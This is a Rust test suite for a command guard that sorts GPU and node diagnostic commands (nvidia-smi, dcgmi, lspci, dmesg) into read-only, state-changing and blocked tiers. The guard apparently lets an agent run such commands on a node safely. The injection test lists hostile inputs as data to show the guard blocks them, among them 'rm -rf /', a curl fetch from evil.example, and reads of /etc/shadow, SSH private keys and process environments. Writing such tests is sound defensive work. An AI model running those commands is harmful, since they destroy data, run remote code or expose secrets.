//! The guard end to end: catalogue, rules, normalisation, explanation and the
//! executor on a simulated node and on real local filters.

use sigma::guard::{
    Catalogue, ExecError, Exit, Limits, Target, Tier, check, execute, explain, normalize,
};

/// Asserts the tier of `command`, showing the rule on failure.
fn assert_tier(command: &str, tier: Tier) {
    let v = check(command);
    assert_eq!(v.tier, tier, "{command}: rule was '{}'", v.rule);
}

/// Asserts `command` is blocked by a rule containing `needle`.
fn assert_blocked(command: &str, needle: &str) {
    let v = check(command);
    assert_eq!(v.tier, Tier::Blocked, "{command}: rule was '{}'", v.rule);
    assert!(
        v.rule.contains(needle),
        "{command}: expected rule containing '{needle}', got '{}'",
        v.rule
    );
    assert!(!v.is_allowed());
}

// ---------------------------------------------------------------- notes table

#[test]
fn failure_mode_commands_from_the_notes_pass() {
    for (command, tier) in [
        ("lspci -nn -d 10de:", Tier::ReadOnly),
        ("dmesg -T | grep -E 'NVRM|Xid'", Tier::ReadOnly),
        ("nvidia-bug-report.sh --safe-mode", Tier::Heavy),
        (
            "nvidia-smi -q -d ECC,PAGE_RETIREMENT,ROW_REMAPPER",
            Tier::ReadOnly,
        ),
        (
            "nvidia-smi -q -d PERFORMANCE,TEMPERATURE,POWER",
            Tier::ReadOnly,
        ),
        ("lspci -vvv -s 17:00.0", Tier::ReadOnly),
        ("lspci -vvv -s 0000:17:00.0", Tier::ReadOnly),
        ("dmesg | grep -iE 'AER|limited by'", Tier::ReadOnly),
        ("nvidia-smi nvlink -e", Tier::ReadOnly),
        ("systemctl status nvidia-fabricmanager", Tier::ReadOnly),
        ("ibstat", Tier::ReadOnly),
        ("ibv_devinfo", Tier::ReadOnly),
        ("dcgmi diag -r 1", Tier::ReadOnly),
        ("dcgmi diag -r 2", Tier::Heavy),
        ("dcgmi diag -r 3", Tier::Heavy),
        ("dcgmi health -c -j", Tier::ReadOnly),
        ("all_reduce_perf -b 8 -e 8G -f 2 -g 8", Tier::Heavy),
        (
            "nvidia-smi --query-compute-apps=pid,process_name,used_memory --format=csv",
            Tier::ReadOnly,
        ),
        ("rocm-smi --showuse --showmemuse --showtemp", Tier::ReadOnly),
        ("rocm-smi --showras", Tier::ReadOnly),
        ("amd-smi list", Tier::ReadOnly),
        (
            "nvidia-smi --query-gpu=clocks_event_reasons.active,clocks_event_reasons.hw_slowdown --format=csv,noheader,nounits",
            Tier::ReadOnly,
        ),
    ] {
        assert_tier(command, tier);
    }
}

#[test]
fn state_changing_commands_are_marked() {
    for command in [
        "nvidia-smi -r",
        "nvidia-smi --gpu-reset -i 0",
        "nvidia-smi -pm 1",
        "nvidia-smi -e 0",
        "nvidia-smi -pl 300",
        "nvidia-smi -lgc 1500,1980",
        "nvidia-smi -rgc",
        "nvidia-smi -lmc 1593",
        "nvidia-smi -rmc",
        "nvidia-smi -ac 1593,1980",
        "nvidia-smi --applications-clocks=1593,1980",
        "nvidia-smi -rac",
        "nvidia-smi -c 3",
        "nvidia-smi -mig 1",
        "nvidia-smi mig -cgi 9,9 -C",
        "nvidia-smi mig -dgi",
        "nvidia-smi nvlink -re",
        "systemctl restart nvidia-fabricmanager",
        "systemctl stop nvidia-persistenced",
        "systemctl start dcgm",
        "systemctl enable nvidia-persistenced",
        "systemctl disable nvidia-persistenced",
        "journalctl --vacuum-size=1G",
        "journalctl --rotate",
        "journalctl --flush",
        "rocm-smi --setsclk 3",
        "rocm-smi --resetclocks",
        "rocm-smi --setpoweroverdrive 500",
        "rocm-smi -r -d 0",
        "rocm-smi --gpureset -d 0",
        "amd-smi set -g 0 -o 500",
        "amd-smi reset -G -g 0",
        "ethtool -s eth0 speed 100000",
        "ethtool -K eth0 tso off",
        "ip link set dev eth0 down",
        "ip addr add 10.0.0.1/24 dev eth0",
        "ip route del default",
        "dcgmi health -s a",
    ] {
        assert_tier(command, Tier::StateChanging);
    }
}

#[test]
fn gpu_reset_rule_names_flag_and_reason() {
    let v = check("nvidia-smi -r -i 3");
    assert_eq!(v.tier, Tier::StateChanging);
    assert!(
        v.rule
            .starts_with("nvidia-smi: flag -r (--gpu-reset) is state-changing (resets the GPU"),
        "{}",
        v.rule
    );
    let v = check("nvidia-smi --gpu-reset");
    assert!(
        v.rule
            .starts_with("nvidia-smi: flag --gpu-reset is state-changing"),
        "{}",
        v.rule
    );
}

#[test]
fn systemctl_subcommand_rule() {
    let v = check("systemctl restart nvidia-fabricmanager");
    assert!(
        v.rule
            .starts_with("systemctl restart: subcommand restart is state-changing"),
        "{}",
        v.rule
    );
}

// ---------------------------------------------------------------- blocked

#[test]
fn log_clearing_is_blocked() {
    assert_blocked("dmesg -c", "dmesg: flag -c (--read-clear) is blocked");
    assert_blocked("dmesg -C", "clears the kernel ring buffer");
    assert_blocked("dmesg --clear", "blocked");
    assert_blocked("dmesg -D", "console");
    assert_blocked("dmesg -E", "console");
    assert_blocked("dmesg -Tc", "--read-clear");
}

#[test]
fn never_ending_commands_are_blocked() {
    assert_blocked("top", "missing -b");
    assert_blocked("top -b", "missing -n");
    assert_tier("top -b -n 1", Tier::ReadOnly);
    assert_blocked("nvidia-smi -l 1", "never finishes");
    assert_blocked("nvidia-smi dmon", "bound it with -c");
    assert_tier("nvidia-smi dmon -c 5", Tier::ReadOnly);
    assert_blocked("journalctl -f", "forever");
    assert_blocked("dmesg -w", "forever");
    assert_blocked("tail -f /proc/meminfo", "forever");
}

#[test]
fn unknown_flag_is_named() {
    let v = check("nvidia-smi -G 3");
    assert_eq!(v.tier, Tier::Blocked);
    assert_eq!(v.rule, "unknown flag -G for nvidia-smi");
    assert_blocked(
        "nvidia-smi --gpu-res",
        "unknown flag --gpu-res for nvidia-smi",
    );
    assert_blocked("nvidia-smi topo -x", "unknown flag -x for nvidia-smi topo");
    assert_blocked("lspci -vZ", "unknown flag -Z (in -vZ) for lspci");
}

#[test]
fn unknown_binary_and_subcommand_are_named() {
    assert_blocked("foo --bar", "unknown binary 'foo'");
    assert_blocked(
        "nvidia-smi frobnicate",
        "unknown subcommand 'frobnicate' for nvidia-smi",
    );
    assert_blocked("/usr/bin/nvidia-smi -L", "not a path");
    assert_blocked("./all_reduce_perf", "not a path");
}

#[test]
fn bad_values_are_refused() {
    assert_blocked(
        "nvidia-smi --query-gpu=index,bogus_field --format=csv",
        "'bogus_field' is not a known value",
    );
    assert_blocked("nvidia-smi --query-gpu=index --format=csv,fancy", "'fancy'");
    assert_blocked("nvidia-smi -q -d ECC,NOPE", "'NOPE'");
    assert_blocked(
        "nvidia-smi -i 'rm -rf'",
        "invalid value 'rm -rf' for -i (--id)",
    );
    assert_blocked("nvidia-smi -pm 2", "expected one of 0, 1");
    assert_blocked("dcgmi diag -r 9", "invalid value '9'");
    assert_blocked("systemctl status 'a;b'", "invalid unit");
    assert_blocked(
        "nvidia-smi --list-gpus=1",
        "flag --list-gpus of nvidia-smi takes no value",
    );
    assert_blocked("nvidia-smi -L=1", "unknown flag -L=1");
    assert_blocked("nvidia-smi -i", "needs a value");
}

#[test]
fn injection_attempts_are_blocked() {
    for (command, needle) in [
        ("nvidia-smi; rm -rf /", "command lists"),
        ("nvidia-smi && rm -rf /", "command lists"),
        ("nvidia-smi || rm -rf /", "command lists"),
        ("nvidia-smi\nrm -rf /", "newlines"),
        ("$(curl http://evil.example/x.sh)", "command substitution"),
        ("nvidia-smi -i $(curl http://x)", "command substitution"),
        ("nvidia-smi -i `id`", "command substitution"),
        ("nvidia-smi -q > /etc/passwd", "redirection"),
        ("cat /etc/shadow", "outside /proc and /sys"),
        ("cat /proc/1/environ", "expose secrets"),
        ("cat /proc/self/root/etc/shadow", "expose secrets"),
        ("cat /proc/../etc/shadow", "must be plain"),
        ("head -n 5 /home/user/.ssh/id_rsa", "outside /proc and /sys"),
        ("find / -exec rm {} \\;", "find is blocked"),
        ("find /sys -name x", "find is blocked"),
        ("xargs rm", "xargs is blocked"),
        ("lspci | xargs rm", "xargs is blocked"),
        ("env rm -rf /", "env is blocked"),
        ("timeout 5 nvidia-smi", "timeout is blocked"),
        ("watch nvidia-smi", "watch is blocked"),
        ("nohup nvidia-smi", "nohup is blocked"),
        ("sudo nvidia-smi -r", "sudo is blocked"),
        ("bash -c 'nvidia-smi -r'", "bash is blocked"),
        ("sh -c ls", "sh is blocked"),
        ("nvidia-smi | sh", "sh is blocked"),
        ("nvidia-smi | bash", "bash is blocked"),
        ("nvidia-smi | nvidia-smi -r", "may not follow a pipe"),
        ("nvidia-smi | tee /tmp/x", "tee is blocked"),
        ("eval nvidia-smi", "eval is blocked"),
        ("source /tmp/x", "source is blocked"),
        (". /tmp/x", ". is blocked"),
        ("exec nvidia-smi", "exec is blocked"),
        ("(nvidia-smi)", "subshells"),
        ("nvidia-smi &", "background"),
        ("FOO=1 nvidia-smi", "variable assignment"),
        ("nvidia-smi -i $GPU", "variable expansion"),
        ("cat /sys/bus/pci/devices/*/current_link_speed", "glob"),
        ("rg --pre sh x", "rg is blocked"),
        ("sort --compress-program=sh /proc/cpuinfo", "executor"),
        ("dmesg | sort -o /etc/passwd", "writes the result to a file"),
        ("dmesg | sort -T /tmp", "temporary files"),
        (
            "numactl --cpunodebind=0 all_reduce_perf",
            "running commands through it is not allowed",
        ),
        (
            "numactl --cpunodebind=0",
            "numactl would run another program",
        ),
        (
            "numactl -H all_reduce_perf",
            "numactl runs the command it is given",
        ),
        ("dmesg | uniq - /etc/passwd", "outside /proc and /sys"),
        ("cat <<< x", "here-strings"),
        ("cat <(ls)", "process substitution"),
        ("nvidia\u{2010}smi -L", "non-ASCII"),
        ("nvidia-smi -\u{0456} 0", "non-ASCII"),
        ("nvidia-smi \u{2014}gpu-reset", "non-ASCII"),
        ("nvidia-smi\u{200b} -r", "non-ASCII"),
        ("nvidia-smi -L\u{0}", "control character"),
        (
            "nvidia-smi -q -f /etc/passwd",
            "writes the output to a file",
        ),
        ("grep -R x /sys", "follows symlinks"),
        (
            "grep -r PASSWORD /proc",
            "recursing can reach /proc/*/environ",
        ),
        ("journalctl -D /home", "outside /proc and /sys"),
    ] {
        assert_blocked(command, needle);
    }
}

#[test]
fn very_long_input_is_blocked() {
    let long = format!(
        "nvidia-smi --query-gpu={} --format=csv",
        "index,".repeat(2000)
    );
    assert_blocked(&long, "the limit is 4096");
}

#[test]
fn hostile_garbage_never_panics() {
    for command in [
        "",
        "|",
        "| grep x",
        "nvidia-smi |",
        "'",
        "\"",
        "$(",
        "`",
        "((",
        "[[ x ]]",
        "}{",
        "<>",
        "2>",
        ">&",
        ";",
        "&&",
        "\\",
        "--",
        "-",
        "nvidia-smi --",
        "nvidia-smi -- -r",
        "grep -- -r",
        "99999999999999999999>/dev/null",
        "nvidia-smi 99999999999999999999>/dev/null",
    ] {
        let v = check(command);
        let _ = explain(command);
        let _ = normalize(command);
        if v.tier != Tier::Blocked {
            assert!(v.is_allowed(), "{command}");
        }
    }
}

#[test]
fn double_dash_ends_flags() {
    assert_blocked("nvidia-smi -- -r", "unexpected argument '-r'");
    let v = check("dmesg | grep -- -r");
    assert_eq!(v.tier, Tier::ReadOnly, "{}", v.rule);
    assert_eq!(v.pipeline[1], vec!["grep", "--", "-r"]);
}

// ---------------------------------------------------------------- accepted forms

#[test]
fn flag_spellings_are_accepted() {
    for command in [
        "nvidia-smi -i 0 -q",
        "nvidia-smi -i0 -q",
        "nvidia-smi --id=0 -q",
        "nvidia-smi --id 0 -q",
        "nvidia-smi -i 0,1,2 -q -d ECC",
        "nvidia-smi -i GPU-5d1b2c3e-aaaa-bbbb-cccc-0123456789ab -q",
        "nvidia-smi -i 00000000:17:00.0 -q",
        "nvidia-smi -q -d ecc",
        "nvidia-smi --query-gpu='index, name, temperature.gpu' --format=csv",
        "nvidia-smi --query-gpu index,name --format csv,noheader",
        "lspci -vvv",
        "lspci -nnk -d 10de:",
        "journalctl -k -b -1 --no-pager",
        "journalctl -kb --no-pager",
        "journalctl --since '1 hour ago' -u nvidia-fabricmanager --no-pager",
        "dmesg --level=err,warn -T",
        "dmesg -l err,crit",
        "tail -n 50 /proc/meminfo",
        "dmesg | tail -50",
        "dmesg | head -n 20",
        "dmesg -T | grep -i xid | sort | uniq -c | sort -rn | head -n 5",
        "dmesg | wc -l",
        "nvidia-smi --query-gpu=index,name --format=csv | cut -d, -f2",
        "nvidia-smi -q 2>/dev/null",
        "nvidia-smi -q 2>&1 | grep -i ecc",
        "nvidia-smi -L >/dev/null",
        "ip -s link show dev ib0",
        "ip a",
        "ip -4 -br addr show",
        "systemctl --no-pager status nvidia-fabricmanager nvidia-persistenced",
        "systemctl list-units --failed",
        "systemctl list-units 'nvidia*'",
        "cat /sys/bus/pci/devices/0000:17:00.0/current_link_speed",
        "grep -H . /sys/class/infiniband/mlx5_0/ports/1/state /sys/class/infiniband/mlx5_0/ports/1/rate",
        "modinfo -F version nvidia",
        "df -h /tmp",
        "ps -eo pid,stat,cmd --sort=-rss",
        "uname -a",
        "free -g",
        "lscpu",
        "uptime",
        "lsmod",
        "numactl -H",
        "numactl --hardware",
        "nvcc --version",
        "nvcc --list-gpu-arch",
        "ethtool -S eth0",
        "nvidia-smi topo -m",
        "nvidia-smi nvlink -s",
        "nvidia-smi nvlink -c",
        "nvidia-smi pmon -c 1",
        "nvidia-smi dmon -s pucvmet -c 5",
        "dcgmi discovery -l",
        "dcgmi stats -j 1234 -v",
        "amd-smi static --asic",
        "amd-smi metric -m",
        "amd-smi monitor -i 3",
    ] {
        assert_tier(command, Tier::ReadOnly);
    }
}

#[test]
fn every_query_gpu_field_is_accepted() {
    let smi = Catalogue::builtin().tool("nvidia-smi").unwrap();
    let flag = smi.flag("--query-gpu").unwrap();
    assert!(flag.values.len() > 150, "{} fields", flag.values.len());
    for choice in &flag.values {
        let command = format!("nvidia-smi --query-gpu={} --format=csv", choice.value);
        assert_tier(&command, Tier::ReadOnly);
    }
    let all: Vec<&str> = flag.values.iter().map(|c| c.value.as_str()).collect();
    // All at once too (the guard checks each item; the length limit allows it).
    let command = format!("nvidia-smi --query-gpu={}", all[..100].join(","));
    assert_tier(&command, Tier::ReadOnly);
}

#[test]
fn required_query_fields_are_catalogued() {
    let smi = Catalogue::builtin().tool("nvidia-smi").unwrap();
    let fields: Vec<&str> = smi
        .flag("--query-gpu")
        .unwrap()
        .values
        .iter()
        .map(|c| c.value.as_str())
        .collect();
    for reason in [
        "active",
        "sw_power_cap",
        "hw_slowdown",
        "sw_thermal_slowdown",
        "hw_thermal_slowdown",
        "hw_power_brake_slowdown",
        "sync_boost",
        "gpu_idle",
    ] {
        for prefix in ["clocks_event_reasons", "clocks_throttle_reasons"] {
            assert!(
                fields.contains(&format!("{prefix}.{reason}").as_str()),
                "{prefix}.{reason}"
            );
        }
    }
    for kind in ["corrected", "uncorrected"] {
        for scope in ["volatile", "aggregate"] {
            let f = format!("ecc.errors.{kind}.{scope}.total");
            assert!(fields.contains(&f.as_str()), "{f}");
        }
    }
    for f in [
        "retired_pages.single_bit_ecc.count",
        "retired_pages.double_bit.count",
        "retired_pages.pending",
        "remapped_rows.correctable",
        "remapped_rows.uncorrectable",
        "remapped_rows.pending",
        "remapped_rows.failure",
        "pcie.link.gen.gpucurrent",
        "pcie.link.gen.max",
        "pcie.link.gen.gpumax",
        "pcie.link.gen.hostmax",
        "pcie.link.width.current",
        "pcie.link.width.max",
        "reset_status.reset_required",
        "reset_status.drain_and_reset_recommended",
    ] {
        assert!(fields.contains(&f), "{f}");
    }
    let sections: Vec<&str> = smi
        .flag("-d")
        .unwrap()
        .values
        .iter()
        .map(|c| c.value.as_str())
        .collect();
    for s in [
        "MEMORY",
        "UTILIZATION",
        "ECC",
        "TEMPERATURE",
        "POWER",
        "CLOCK",
        "COMPUTE",
        "PIDS",
        "PERFORMANCE",
        "SUPPORTED_CLOCKS",
        "PAGE_RETIREMENT",
        "ACCOUNTING",
        "ENCODER_STATS",
        "SUPPORTED_GPU_TARGET_TEMP",
        "VOLTAGE",
        "FBC_STATS",
        "ROW_REMAPPER",
        "RESET_STATUS",
        "GSP_FIRMWARE_VERSION",
        "POWER_SMOOTHING",
        "POWER_PROFILES",
    ] {
        assert!(sections.contains(&s), "{s}");
    }
}

#[test]
fn every_catalogue_example_has_its_declared_tier() {
    let mut count = 0;
    for tool in Catalogue::builtin().tools() {
        for example in &tool.example {
            assert_tier(&example.command, example.tier);
            assert!(!example.purpose.is_empty(), "{}", example.command);
            count += 1;
        }
    }
    assert!(count >= 100, "only {count} examples");
}

#[test]
fn every_tool_has_an_example() {
    for tool in Catalogue::builtin().tools() {
        let used = Catalogue::builtin().tools().any(|t| {
            t.example
                .iter()
                .any(|e| e.command.split(' ').any(|w| w == tool.binary))
        });
        assert!(used, "{} has no example", tool.binary);
    }
}

// ---------------------------------------------------------------- normalize / explain

#[test]
fn normalisation_unifies_equivalent_spellings() {
    for (a, b) in [
        ("nvidia-smi -q -i 0", "nvidia-smi --id=0 --query"),
        ("nvidia-smi -i0 -q", "nvidia-smi -q --id 0"),
        (
            "nvidia-smi -q -d ecc,row_remapper",
            "nvidia-smi --query --display=ECC,ROW_REMAPPER",
        ),
        (
            "nvidia-smi --query-gpu=index,name --format=csv",
            "nvidia-smi --format csv --query-gpu 'index, name'",
        ),
        ("lspci -vvv -s 17:00.0", "lspci -s 17:00.0 -v -v -v"),
        ("lspci -nn -d 10de:", "lspci -d 10de: -n -n"),
        ("dmesg -T | tail -50", "dmesg --ctime | tail --lines=50"),
        ("journalctl -k -b", "journalctl --boot --dmesg"),
        ("nvidia-smi -r -i 3", "nvidia-smi --gpu-reset --id=3"),
        ("top -bn1", "top -b -n 1"),
    ] {
        let na = normalize(a);
        assert!(na.is_some(), "{a}");
        assert_eq!(na, normalize(b), "{a} vs {b}");
    }
}

#[test]
fn normalisation_keeps_meaningful_differences() {
    for (a, b) in [
        (
            "nvidia-smi --query-gpu=index,name",
            "nvidia-smi --query-gpu=name,index",
        ),
        ("nvidia-smi -i 0 -q", "nvidia-smi -i 1 -q"),
        ("nvidia-smi topo -m", "nvidia-smi nvlink -s"),
        ("dmesg | grep a", "dmesg | grep b"),
    ] {
        assert_ne!(normalize(a), normalize(b), "{a} vs {b}");
    }
    assert_eq!(
        normalize("nvidia-smi -q -i 0 -d ECC").as_deref(),
        Some("nvidia-smi --display=ECC --id=0 --query")
    );
    assert_eq!(normalize("nvidia-smi -G"), None);
    assert_eq!(normalize("nvidia-smi; ls"), None);
}

#[test]
fn explain_describes_each_argument() {
    let e = explain("nvidia-smi -q -i 3 -d ECC,ROW_REMAPPER 2>/dev/null | grep -i pending");
    let args: Vec<&str> = e.iter().map(|x| x.arg.as_str()).collect();
    assert_eq!(
        args,
        vec![
            "nvidia-smi",
            "-q",
            "-i 3",
            "-d ECC,ROW_REMAPPER",
            "2>/dev/null",
            "|",
            "grep",
            "-i",
            "pending"
        ]
    );
    assert!(e[0].meaning.contains("NVIDIA System Management Interface"));
    assert!(e[2].meaning.contains("target GPUs"));
    assert!(e[3].meaning.contains("ECC = ECC mode"), "{}", e[3].meaning);
    assert!(
        e[3].meaning.contains("ROW_REMAPPER = remapped rows"),
        "{}",
        e[3].meaning
    );
    assert_eq!(e[4].meaning, "discard error messages");
    assert!(e[7].meaning.contains("ignore case"));
    assert!(e[8].meaning.starts_with("pattern:"), "{}", e[8].meaning);
}

#[test]
fn explain_says_what_is_not_allowed() {
    let e = explain("nvidia-smi -G 3");
    assert_eq!(e.last().unwrap().arg, "-G");
    assert!(e.last().unwrap().meaning.contains("unknown flag -G"));
    let e = explain("nvidia-smi; rm -rf /");
    assert!(e[0].meaning.starts_with("not allowed: command lists"));
}

#[test]
fn verdict_serialises_for_scripts() {
    let v = check("nvidia-smi -L | grep 'GPU 3'");
    let json = serde_json::to_value(&v).unwrap();
    assert_eq!(json["tier"], "read-only");
    assert_eq!(json["pipeline"][1][1], "GPU 3");
    assert!(json.get("plan").is_none());
}

// ---------------------------------------------------------------- executor

#[test]
fn blocked_verdict_cannot_run() {
    let node = sigma::sim::load("h100x8-healthy").unwrap();
    let v = check("dmesg -c");
    let err = execute(&v, Target::Simulated(&node), &Limits::default()).unwrap_err();
    assert!(matches!(err, ExecError::Blocked { .. }), "{err}");
    assert!(err.to_string().contains("--read-clear"), "{err}");
}

#[test]
fn editing_a_verdict_does_not_change_what_runs() {
    let node = sigma::sim::load("h100x8-healthy").unwrap();
    let mut v = check("nvidia-smi -L");
    v.pipeline = vec![vec!["rm".into(), "-rf".into(), "/".into()]];
    v.command = "rm -rf /".into();
    let run = execute(&v, Target::Simulated(&node), &Limits::default()).unwrap();
    assert!(run.stdout.text.contains("GPU 0"), "{}", run.stdout.text);
    let mut blocked = check("dmesg -c");
    blocked.tier = Tier::ReadOnly;
    assert!(execute(&blocked, Target::Simulated(&node), &Limits::default()).is_err());
}

#[test]
fn simulated_pipeline_runs_filters_for_real() {
    let node = sigma::sim::load("h100x8-healthy").unwrap();
    let v = check("nvidia-smi -L | grep 'GPU 3'");
    assert!(v.is_allowed(), "{}", v.rule);
    let run = execute(&v, Target::Simulated(&node), &Limits::default()).unwrap();
    assert_eq!(run.exit, Exit::Code(0), "{run:?}");
    let lines: Vec<&str> = run.stdout.text.lines().collect();
    assert_eq!(lines.len(), 1, "{}", run.stdout.text);
    assert!(lines[0].starts_with("GPU 3:"), "{}", lines[0]);
    assert_eq!(run.segments.len(), 2);

    let v = check("nvidia-smi -L | wc -l");
    let run = execute(&v, Target::Simulated(&node), &Limits::default()).unwrap();
    assert_eq!(run.stdout.text.trim(), "8");
}

#[test]
fn simulated_single_command_and_missing_tool() {
    let node = sigma::sim::load("h100x8-healthy").unwrap();
    let run = execute(
        &check("nvidia-smi -L"),
        Target::Simulated(&node),
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(run.stdout.text.lines().count(), 8, "{}", run.stdout.text);
    let run = execute(
        &check("nvcc --version"),
        Target::Simulated(&node),
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(run.exit.code(), 127, "{run:?}");
}

#[test]
fn live_pipeline_of_local_files() {
    let v = check("cat /proc/cpuinfo | head -n 2");
    let run = execute(&v, Target::Live, &Limits::default()).unwrap();
    assert_eq!(run.exit, Exit::Code(0), "{run:?}");
    assert_eq!(run.stdout.text.lines().count(), 2, "{}", run.stdout.text);
    assert!(!run.stdout.truncated);
}

#[test]
fn live_output_cap_keeps_the_tail() {
    let v = check("cat /proc/self/status /proc/cpuinfo");
    let limits = Limits {
        output_cap: 64,
        ..Limits::default()
    };
    let run = execute(&v, Target::Live, &limits).unwrap();
    assert!(run.stdout.truncated, "{run:?}");
    assert!(run.stdout.dropped_bytes > 0);
    let full = std::fs::read_to_string("/proc/cpuinfo").unwrap();
    let body = run.stdout.text.split_once('\n').unwrap().1;
    assert!(full.ends_with(body), "{body:?}");
}

#[test]
fn every_field_the_simulator_answers_passes_the_guard() {
    for field in sigma::sim::query_gpu_fields() {
        let command = format!("nvidia-smi --query-gpu={field} --format=csv,noheader");
        assert_tier(&command, Tier::ReadOnly);
    }
}

#[test]
fn simulated_query_with_redirect_and_filter() {
    let node = sigma::sim::load("h100x8-healthy").unwrap();
    let v =
        check("nvidia-smi --query-gpu=index,name --format=csv,noheader 2>/dev/null | head -n 3");
    let run = execute(&v, Target::Simulated(&node), &Limits::default()).unwrap();
    assert_eq!(run.stdout.text.lines().count(), 3, "{run:?}");
    assert!(run.stdout.text.starts_with("0, "), "{}", run.stdout.text);
}
